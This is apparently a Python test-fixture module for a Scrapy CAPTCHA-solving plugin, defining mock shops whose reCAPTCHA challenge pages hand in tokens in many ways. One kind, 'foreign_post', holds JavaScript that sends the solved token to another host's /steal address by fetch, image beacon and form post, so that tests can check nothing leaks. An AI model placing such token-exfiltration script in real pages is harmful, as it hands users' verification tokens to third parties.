"""Sites whose walls open in a browser only, or are hard on one.

::

    with OmoCaptchaService() as service, BrowserSite(service, "in_place") as site:
        ...  # crawl site.url + "/page/1" in a browser
        assert (site.accepted, site.pages) == (1, 1)
"""

from __future__ import annotations

import json
from contextlib import suppress
from dataclasses import dataclass, replace
from html import escape
from string import Template
from typing import TYPE_CHECKING, Any

from scrapy_omocaptcha.testing import Wall, WalledSite
from scrapy_omocaptcha.testing.gate import BUTTON, CSRF_FIELD, NEXT_FIELD, SESSION_COOKIE
from scrapy_omocaptcha.testing.pages import API_SCRIPT, document, hidden
from scrapy_omocaptcha.testing.shop import Answer

if TYPE_CHECKING:
    from collections.abc import Callable

    from scrapy_omocaptcha.testing import OmoCaptchaService
    from scrapy_omocaptcha.testing.visit import Visit

TITLE = "Please confirm you are not a robot"

OTHER_SITE = "127.0.0.222"
"""Another host that the sites answer at, which stands for another site."""
STEAL = "/steal"
"""Address at the other site that gets the token."""
CRASH = "/crash"
"""Address that a page asks for to be ended by :func:`crash_renderer`."""
GATE_PAGE = "/gate-page"
"""Address of the challenge that is behind a click."""
OTHER_KEY = f"6LtestOnly{'other' * 6}"
"""A site key whose tokens no wall accepts."""

DETAILS = '<div id="details"><p class="stock">Three in stock</p></div>'
_MORE = '<button id="more" type="button">More</button>'

# In a challenge page, $key is the site key, $other another one, $target the page that was asked for as a string of
# JavaScript, $fields the hidden fields of the form, and $steal an address of another site.
_WIDGET = '<div class="g-recaptcha" data-sitekey="$key"></div>'
_CALLBACK = '<div class="g-recaptcha" data-sitekey="$key" data-callback="passed"></div>'
_INVISIBLE = '<div class="g-recaptcha" data-sitekey="$key" data-size="invisible"></div>'
_EMPTY = '<div id="captcha"></div>'
_PRESS = f'<button type="submit" name="{BUTTON[0]}" value="{BUTTON[1]}">Continue</button>'
_DISABLED = _PRESS.replace('">', '" id="continue" disabled>')
_SUBMIT = 'document.getElementById("challenge").submit();'
_SEND = """
function send(token) {
  var body = JSON.stringify({token: token});
  return fetch("/verify", {method: "POST", headers: {"Content-Type": "application/json"}, body: body});
}
function show() { location = $target; }
"""
_READ_AND_SEND = _SEND + "function sendAnswer() { send(grecaptcha.getResponse()).then(show); }\n"
_RENDER_LATE = """
addEventListener("load", function () {
  setTimeout(function () {
    grecaptcha.ready(function () { grecaptcha.render("captcha", {"sitekey": "$key"}); });
  }, 700);
});
"""


def _form(inner: str, attributes: str = "") -> str:
    return f'<form id="challenge" action="/verify" method="post"{attributes}>\n$fields\n{inner}\n</form>'


def _script_form(inner: str) -> str:
    """Return a form that nothing but a script submits: sent by the browser, it would open nothing."""
    return f'<form id="challenge">\n{inner}\n<button type="submit">Continue</button>\n</form>'


BY_BUTTON = Wall()
"""The form is posted by its button, and answered by a redirect to the page."""
BY_FORM = Wall(widget="invisible")
"""The form is posted by a script, without its button."""
BY_JSON = Wall(widget="callback", form="none")
"""A script posts the token as JSON."""


@dataclass(frozen=True)
class Kind:
    """What a challenge page shows, and how it hands in its token."""

    about: str
    """Description in one sentence."""
    wall: Wall
    body: str
    """Markup of the widget and of what is around it; a template."""
    script: str = ""
    """Script at the end of the page; a template."""
    loaded: str = ""
    """Query of the address of Google's script."""
    then: str | None = None
    """Address that an accepted form is redirected to, instead of the page."""


KINDS: dict[str, Kind] = {
    "get_response": Kind(
        "A submit handler reads grecaptcha.getResponse(), sends it as JSON, and goes to the page.",
        BY_JSON,
        _script_form(_WIDGET),
        _READ_AND_SEND
        + """
document.getElementById("challenge").addEventListener("submit", function (event) {
  event.preventDefault();
  sendAnswer();
});
""",
    ),
    "button_alone": Kind(
        "There is no form: the click handler of a button reads grecaptcha.getResponse() and sends it as JSON.",
        BY_JSON,
        f'{_WIDGET}\n<button id="continue">Continue</button>',
        _READ_AND_SEND + 'document.getElementById("continue").addEventListener("click", sendAnswer);',
    ),
    "in_place": Kind(
        "The callback sends the token as JSON, and puts the content of the page in place of the challenge.",
        BY_JSON,
        _CALLBACK,
        _SEND
        + """
function passed(token) {
  send(token).then(function () { return fetch($target); }).then(function (answer) {
    return answer.text();
  }).then(function (html) {
    var page = new DOMParser().parseFromString(html, "text/html");
    document.title = page.title;
    document.body.innerHTML = page.body.innerHTML;
  });
}
""",
    ),
    "late_widget": Kind(
        "A script of the page renders the widget 700 ms after the page is loaded.",
        BY_BUTTON,
        _form(f"{_EMPTY}\n{_PRESS}"),
        _RENDER_LATE,
        loaded="render=explicit",
    ),
    "late_key": Kind(
        "A script from elsewhere renders the widget 700 ms after the page is loaded; only then is the key to be seen.",
        BY_BUTTON,
        _form(f'{_EMPTY}\n{_PRESS}\n<script src="/late.js"></script>'),
        loaded="render=explicit",
    ),
    "anonymous_callback": Kind(
        "A script renders the widget with a function literal as callback, which submits the form.",
        BY_FORM,
        _form(_EMPTY),
        f"""
function ready() {{
  grecaptcha.render("captcha", {{"sitekey": "$key", "callback": function (token) {{ {_SUBMIT} }}}});
}}
""",
        loaded="onload=ready&amp;render=explicit",
    ),
    "promise": Kind(
        "A submit handler awaits grecaptcha.execute(), sends its token as JSON, and goes to the page.",
        BY_JSON,
        _script_form(_INVISIBLE),
        _SEND
        + """
document.getElementById("challenge").addEventListener("submit", async function (event) {
  event.preventDefault();
  await send(await grecaptcha.execute());
  show();
});
""",
    ),
    "promise_on_load": Kind(
        "The page calls grecaptcha.execute().then(…) as soon as Google's script is ready.",
        BY_JSON,
        _INVISIBLE,
        _SEND + "function ready() { grecaptcha.execute().then(send).then(show); }",
        loaded="onload=ready",
    ),
    "popup": Kind(
        "The form opens its answer in a new window, and the challenge stays.",
        BY_BUTTON,
        _form(f"{_WIDGET}\n{_PRESS}", ' target="_blank"'),
    ),
    "foreign_post": Kind(
        "The callback sends the token to another site: by fetch, as an image, and by a form.",
        replace(BY_JSON, opens=False),
        f'{_CALLBACK}\n<form id="foreign" action="$steal" method="post"><input type="hidden" name="token"></form>',
        """
function passed(token) {
  fetch("$steal", {method: "POST", mode: "no-cors", body: JSON.stringify({token: token})});
  new Image().src = "$steal?token=" + encodeURIComponent(token);
  var form = document.getElementById("foreign");
  form.elements.token.value = token;
  form.submit();
}
""",
    ),
    "throwing": Kind(
        "The callback throws an error that names the token; the form's button works.",
        BY_BUTTON,
        _form(f"{_CALLBACK}\n{_PRESS}"),
        'function passed(token) { throw new Error("no place for " + token); }',
    ),
    "redirect_forever": Kind(
        "An accepted token is answered by a redirect to an address that redirects to itself.",
        BY_BUTTON,
        _form(f"{_WIDGET}\n{_PRESS}"),
        then="/redirect-forever",
    ),
    "reload_forever": Kind(
        "An accepted token is answered by a redirect to a page that loads itself again and again.",
        BY_BUTTON,
        _form(f"{_WIDGET}\n{_PRESS}"),
        then="/reload-forever",
    ),
    "two_widgets": Kind(
        "A form for a newsletter, with a widget of another key, stands after the form of the wall.",
        BY_BUTTON,
        _form(f"{_WIDGET}\n{_PRESS}")
        + """
<form id="newsletter" action="/newsletter" method="post">
<input type="email" name="email">
<div class="g-recaptcha" data-sitekey="$other"></div>
<button type="submit">Subscribe</button>
</form>""",
    ),
    "disabled_button": Kind(
        "The form's button is disabled until the callback enables it.",
        BY_BUTTON,
        _form(f"{_CALLBACK}\n{_DISABLED}"),
        'function passed(token) { document.getElementById("continue").disabled = false; }',
    ),
    "slow_callback": Kind(
        "The callback submits the form after 400 ms.",
        BY_FORM,
        _form(_CALLBACK),
        f"function passed(token) {{ setTimeout(function () {{ {_SUBMIT} }}, 400); }}",
    ),
    "other_key_second": Kind(
        "The first challenge of a session shows a wrong site key, and all later ones show the right one.",
        BY_BUTTON,
        _form(f"{_WIDGET}\n{_PRESS}"),
    ),
    "crash": Kind(
        "The callback sends the token as JSON; then the renderer crashes, where the test has called crash_renderer.",
        BY_JSON,
        _CALLBACK,
        _SEND + f'function passed(token) {{ send(token).then(function () {{ fetch("{CRASH}"); }}); }}',
    ),
}
"""The sites by name."""


class BrowserSite(WalledSite):
    """Walled shop whose challenge pages are those of a kind.

    It listens at :data:`OTHER_SITE` too, which only ``foreign_post`` uses.

    :param kind: a name of :data:`KINDS`.
    :param options: options of :class:`~scrapy_omocaptcha.testing.WalledSite`.
    """

    def __init__(
        self, service: OmoCaptchaService, kind: str, *, hosts: tuple[str, ...] = ("127.0.0.1",), **options: Any
    ) -> None:
        self.kind = KINDS[kind]
        super().__init__(service, self.kind.wall, hosts=(*hosts, OTHER_SITE), **options)
        self._pages: dict[str, Callable[[], Answer]] = {
            "/late.js": lambda: Answer(self._fill(_RENDER_LATE), content_type="text/javascript"),
            "/redirect-forever": lambda: _redirect("/redirect-forever"),
            "/reload-forever": lambda: Answer(
                document("One moment", "<script>setTimeout(function () { location.reload(); }, 50);</script>")
            ),
            CRASH: lambda: Answer(document("Nothing crashed", "")),
            STEAL: lambda: Answer(document("Many thanks", "")),
        }

    @property
    def stolen(self) -> int:
        """Number of requests in which another site got a token."""
        return sum(visit.path == STEAL and (bool(visit.query) or bool(visit.body)) for visit in self.requests)

    def answer(self, visit: Visit) -> Answer:
        """Answer a visit as the shop does, with the challenge page of the kind."""
        if visit.path in self._pages:
            return self._pages[visit.path]()
        answer = super().answer(visit)
        if answer.shown == "challenge":
            answer.body = self._challenge(visit, answer, dict(visit.form).get(NEXT_FIELD, visit.target))
        elif answer.token == "accepted" and self.kind.then:
            answer.headers["Location"] = self.kind.then
        return answer

    def _challenge(self, visit: Visit, answer: Answer, target: str) -> str:
        """Return the challenge page of the kind."""
        session = answer.cookies.get(SESSION_COOKIE) or visit.cookies[SESSION_COOKIE]
        first = SESSION_COOKIE in answer.cookies
        key = OTHER_KEY if first and self.kind is KINDS["other_key_second"] else self.sitekey
        fields = hidden([(CSRF_FIELD, self.shop.gate._sessions[session].csrf), (NEXT_FIELD, target)])
        error = f'<p class="error">That did not work ({escape(answer.token)}).</p>\n' if answer.token else ""
        script = self._fill(self.kind.script, key=key, target=_string(target))
        body = self._fill(self.kind.body, key=key, fields=fields)
        query = f"?{self.kind.loaded}" if self.kind.loaded else ""
        # Google's script comes last, since it calls functions of the page.
        return document(
            TITLE,
            f"<h1>{TITLE}</h1>\n{error}<p>The page you asked for is shown once you have ticked the box.</p>\n{body}\n"
            f"<script>{script}</script>\n{API_SCRIPT.replace('api.js', f'api.js{query}')}",
        )

    def _fill(self, template: str, **values: str) -> str:
        """Return a template with its values."""
        steal = f"http://{OTHER_SITE}:{self.port}{STEAL}"
        return Template(template).substitute({"key": self.sitekey, "other": OTHER_KEY, "steal": steal} | values)


async def crash_renderer(page: Any, request: object) -> None:
    """Make the renderer of a Playwright page crash when the page asks for :data:`CRASH`.

    This is a ``playwright_page_init_callback``. A page cannot crash by itself: Chromium lets none go to
    ``chrome://crash``.
    """

    async def crash(loaded: Any) -> None:
        if loaded.url.endswith(CRASH):
            session = await page.context.new_cdp_session(page)
            with suppress(Exception):  # Playwright says that the page has crashed.
                await session.send("Page.crash")

    page.on("request", crash)


def _redirect(location: str) -> Answer:
    return Answer("", 302, "sent on", headers={"Location": location})


def _add(html: str, markup: str) -> str:
    return html.replace("</body>", f"{markup}\n</body>")


def _string(text: str) -> str:
    """Return a text as a string of JavaScript, in which ``</script>`` does not end the script."""
    return json.dumps(text).replace("<", "\\u003c")
